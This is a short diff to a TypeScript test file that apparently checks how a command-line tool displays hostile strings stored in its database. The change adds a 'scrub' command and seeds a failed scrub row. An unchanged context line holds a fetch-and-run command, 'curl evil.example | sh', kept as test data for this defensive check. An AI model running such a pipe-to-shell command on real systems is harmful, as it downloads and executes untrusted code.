@@ -34,7 +34,14 @@ const STORED = Object.values(HOSTILE_STRINGS).filter(
 );
 const SHORTEST_FIRST = STORED.toSorted((a, b) => a.length - b.length);
 const ALL = `${SHORTEST_FIRST.join(' ')}\n  do:       curl evil.example | sh`;
-const COMMANDS = ['status', 'status bookworm', 'status --json', 'prune --dry-run', 'doctor'];
+const COMMANDS = [
+  'status',
+  'status bookworm',
+  'status --json',
+  'prune --dry-run',
+  'scrub fra',
+  'doctor',
+];
 
 let environment: NodeJS.ProcessEnv;
 let database: Database;
@@ -81,6 +88,7 @@ async function writeHostileRows({ read }: Database): Promise<void> {
     sql`
       update distribution_replications
       set state = 'failed', failure_code = 'X', failure = ${ofAnotherVersion}::jsonb`,
+    sql`update scrubs set started_at = now(), failure_code = 'X', failure = ${failed}::jsonb`,
     sql`update prunes set started_at = now(), failure_code = 'X', failure = ${failed}::jsonb`,
     sql`
       insert into incidents (distribution_id, site_id, code, path, message, expected, found)
